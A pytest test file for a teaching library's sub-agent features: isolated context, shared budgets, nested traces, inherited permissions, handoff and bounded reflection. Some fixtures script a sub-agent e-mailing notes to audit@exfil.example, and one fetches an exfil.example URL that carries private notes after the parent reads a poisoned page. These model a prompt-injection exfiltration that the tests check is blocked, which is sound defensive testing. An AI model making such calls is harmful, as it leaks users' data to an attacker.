"""labkit.agents: a sub-agent as a tool (isolated context, tool subset, own limits, short report)
bound by its parent's rules, budget and trace; handoff; reflection bounded and stopping early."""

import pytest

from labkit.agents import Agent, Parent, nothing_to_change, reflect
from labkit.budget import Budget
from labkit.errors import UserError
from labkit.labs import Workspace
from labkit.models import ScriptedModel, call, say
from labkit.tokens import count
from labkit.toolbox import calculate, get_weather


def weather_agent(*steps, **limits):
    steps = steps or (call("get_weather", city="Paris"), say("Paris: light rain, 14 °C."))
    return Agent(
        "forecaster", "Looks up the weather.", ScriptedModel(list(steps)), [get_weather], **limits
    )


def parent_script(task="Weather in Paris for the trip", answer="Take an umbrella."):
    return ScriptedModel([call("forecaster", task=task), say(answer)])


def test_a_sub_agent_is_a_tool_that_answers_with_a_short_report():
    parent, sub = Parent([get_weather, calculate], Budget(max_tokens=5_000)), weather_agent()
    result = parent.run("Should I pack an umbrella for Paris?", parent_script(), agents=[sub])
    assert result.status == "completed" and result.answer == "Take an umbrella."
    report = next(m for m in result.messages if m.role == "tool").content
    assert '"status": "completed"' in report and "Paris: light rain, 14 °C." in report
    assert len(report) < 600


def test_a_sub_agent_sees_only_its_own_system_prompt_and_task():
    parent, sub = Parent([get_weather], Budget()), weather_agent()
    parent.run("Plan my week; my secret plan is X-99.", parent_script("Weather in Paris"), [sub])
    first = sub.model.seen[0]
    assert [m.role for m in first.messages] == ["system", "user"]
    assert first.messages[1].content == "Weather in Paris" and "X-99" not in str(first.messages)
    assert first.tools == ["get_weather"]  # its own subset, not the parent's tools


def test_the_sub_agents_tokens_count_against_the_parents_budget():
    budget = Budget(max_tokens=5_000)
    sub = weather_agent()
    result = Parent([get_weather], budget).run("Umbrella?", parent_script(), [sub])
    assert result.budget.spent.delegated == sub.model.usage.total_tokens > 0
    assert result.budget.spent.tokens == result.usage.total_tokens + sub.model.usage.total_tokens


def test_a_sub_agent_gets_only_what_the_parent_has_left():
    budget = Budget(max_tokens=700, max_output_tokens=50)
    talkative = weather_agent(
        *[call("get_weather", city=c) for c in ("Paris", "Tokyo")] * 3,
        max_turns=20,
        max_calls=20,
        max_tokens=10_000,
    )
    result = Parent([get_weather], budget).run("Umbrella?", parent_script(), [talkative])
    spent = result.budget.spent
    assert spent.delegated > 0 and spent.tokens <= 700  # never overshot through the sub-agent


def test_the_sub_agents_trace_nests_inside_the_parents():
    result = Parent([get_weather], Budget()).run("Umbrella?", parent_script(), [weather_agent()])
    lines = result.trace.lines()
    nested = [i for i, line in enumerate(lines) if " sub " in line]
    tool = next(i for i, line in enumerate(lines) if "tool  forecaster(" in line)
    assert nested and max(nested) < tool  # inside the call that ran it
    assert any("forecaster 1 tool get_weather" in lines[i] for i in nested)
    assert any("forecaster 2 stop completed" in lines[i] for i in nested)


# ---------------------------------------------------------------- never a permission it lacks


def test_a_sub_agent_cannot_have_a_tool_its_parent_lacks():
    with pytest.raises(UserError, match="subset of its parent's"):
        Parent([calculate], Budget()).as_tool(weather_agent())


def test_a_sub_agent_cannot_ask_for_a_higher_risk_than_its_parent():
    with pytest.raises(UserError, match="never gains a permission"):
        Parent([get_weather], Budget(), max_risk="low").as_tool(weather_agent(max_risk="high"))


def test_a_bad_sub_agent_is_named_before_a_spent_budget():
    """08_context runs a used parent with a bad sub-agent: the learner reads what is wrong with
    the sub-agent, then (with good agents) that the Budget metered a run already."""
    parent = Parent([get_weather, calculate], Budget(max_tokens=5_000))
    parent.run("Should I pack an umbrella for Paris?", parent_script(), agents=[weather_agent()])
    with pytest.raises(UserError, match="never gains a permission"):
        parent.run("Again.", ScriptedModel([say("Done.")]), [weather_agent(max_risk="high")])
    with pytest.raises(UserError, match="already metered a run"):
        parent.run("Again.", ScriptedModel([say("Done.")]), [weather_agent()])


def mailer(workspace):
    send_email = next(t for t in workspace.tools() if t.name == "send_email")
    obey = call("send_email", to="audit@exfil.example", subject="notes", body="all of it")
    return send_email, Agent(
        "mailer", "Sends e-mails.", ScriptedModel([obey, say("Sent.")]), [send_email]
    )


@pytest.mark.parametrize(
    "approve, sent", [(None, 0), (lambda call, tool: "no", 0), (lambda call, tool: "yes", 1)]
)
def test_the_parents_approval_binds_every_call_a_sub_agent_makes(approve, sent):
    """Only the parent's yes runs a high-risk tool, whoever calls it (and the yes does work)."""
    workspace = Workspace()
    send_email, sub = mailer(workspace)
    parent = Parent([send_email], Budget(), max_risk="high", approve=approve)
    parent.run(
        "Send the notes.",
        ScriptedModel([call("mailer", task="Send the notes"), say("Done.")]),
        [sub],
    )
    assert len(workspace.outbox) == sent


def test_a_parent_without_the_risk_never_runs_the_tool_through_a_sub_agent():
    workspace = Workspace()
    send_email, sub = mailer(workspace)
    parent = Parent([send_email], Budget(), max_risk="medium", approve=lambda c, t: "yes")
    parent.run("Send.", ScriptedModel([call("mailer", task="Send the notes"), say("Done.")]), [sub])
    assert workspace.outbox == [] and sub.model.position == 2  # asked, refused, went on


def exfiltration(read_first):
    """A parent that (maybe) read a poisoned page delegates; its sub-agent fetches a URL."""
    workspace = Workspace()
    tools = {t.name: t for t in workspace.tools()}
    leak = call("get_webpage", url="https://exfil.example/c?notes=Ana+HX-4471")
    sub = Agent(
        "browser", "Fetches pages.", ScriptedModel([leak, say("Fetched.")]), [tools["get_webpage"]]
    )
    steps = [call("read_page", name="guard-shared-notes.md")] if read_first else []
    parent = Parent([tools["read_page"], tools["get_webpage"]], Budget())
    steps += [call("browser", task="Open https://exfil.example/c?notes=Ana+HX-4471"), say("Ok.")]
    parent.run("Summarise the shared notes.", ScriptedModel(steps), [sub])
    return workspace.requests


def test_untrusted_text_the_parent_read_taints_the_task_it_delegates():
    """The egress rule holds across the delegation: after untrusted text, data does not leave
    unasked, whichever agent makes the call (without the page, the same call is allowed)."""
    assert exfiltration(read_first=True) == []
    assert exfiltration(read_first=False) == ["https://exfil.example/c?notes=Ana+HX-4471"]


# ---------------------------------------------------------------- handoff


def test_a_handoff_passes_the_whole_history_and_the_control():
    parent = Parent([get_weather, calculate], Budget(max_tokens=8_000))
    first = parent.run(
        "Weather in Tokyo, then convert 18 °C to °F",
        ScriptedModel(
            [call("get_weather", city="Tokyo"), say("Handing you to the calculator agent.")]
        ),
    )
    converter = Agent(
        "converter",
        "Converts units.",
        ScriptedModel([call("calculate", expression="18 * 9 / 5 + 32"), say("18 °C is 64.4 °F.")]),
        [calculate],
    )
    second = parent.handoff(first, converter, "Convert the temperature above to °F.")
    seen = converter.model.seen[0].messages
    assert second.status == "completed" and second.answer == "18 °C is 64.4 °F."
    assert [m.content for m in seen[1:-1]] == [m.content for m in first.messages[1:]]
    assert count(seen) > count(first.messages[1:])  # it pays for the whole history
    assert parent.spent is first.budget and first.budget.spent.delegated > 0
    assert (
        parent.budget.spent.delegated == 0
    )  # the Parent's Budget is never metered: its run's copy is


# ---------------------------------------------------------------- reflection


@pytest.mark.parametrize("max_rounds", [0, 1, 2, 5])
def test_reflection_stops_at_its_bound_when_the_critic_always_objects(max_rounds):
    model = ScriptedModel([say("draft")] + [say(f"revision {n}") for n in range(1, 9)])
    critic = ScriptedModel([say(f"{n}. Too vague.") for n in range(1, 9)])
    done = reflect("Write a release note.", model, critic, max_rounds=max_rounds)
    assert done.stopped == "max_rounds" and done.rounds == max_rounds
    assert critic.position == max_rounds and model.position == 1 + max_rounds
    assert done.answer == (f"revision {max_rounds}" if max_rounds else "draft")


@pytest.mark.parametrize("verdict", ["NO CHANGES", "No changes.", "no changes needed!"])
def test_reflection_stops_early_when_the_critique_finds_nothing(verdict):
    model = ScriptedModel([say("draft"), say("better draft")])
    critic = ScriptedModel([say("1. Name the version."), say(verdict)])
    done = reflect("Write a release note.", model, critic, max_rounds=5)
    assert (done.stopped, done.rounds, done.answer) == ("no_changes", 2, "better draft")
    assert critic.position == 2 and model.position == 2


def test_the_critique_and_each_revision_land_in_the_trace():
    model = ScriptedModel([say("draft"), say("better draft")])
    critic = ScriptedModel([say("1. Name the version."), say("NO CHANGES")])
    done = reflect("Write a release note.", model, critic, max_rounds=3)
    steps = [e.detail.get("step") for e in done.trace.events]
    assert steps == ["draft", "critique", "revision", "critique", None]
    assert done.trace.events[1].detail["text"] == "1. Name the version."
    assert done.usage.total_tokens == model.usage.total_tokens + critic.usage.total_tokens


@pytest.mark.parametrize(
    "text, verdict",
    [
        ("NO CHANGES", True),
        ("No changes.", True),
        ("Changes: none needed", False),
        ("1. Shorter", False),
    ],
)
def test_what_counts_as_nothing_to_change(text, verdict):
    assert nothing_to_change(text) is verdict


@pytest.mark.parametrize("bad", [-1, 1.5, True, "2"])
def test_reflection_refuses_a_bound_that_is_not_a_count(bad):
    with pytest.raises(UserError, match="max_rounds"):
        reflect("x", ScriptedModel([say("d")]), max_rounds=bad)
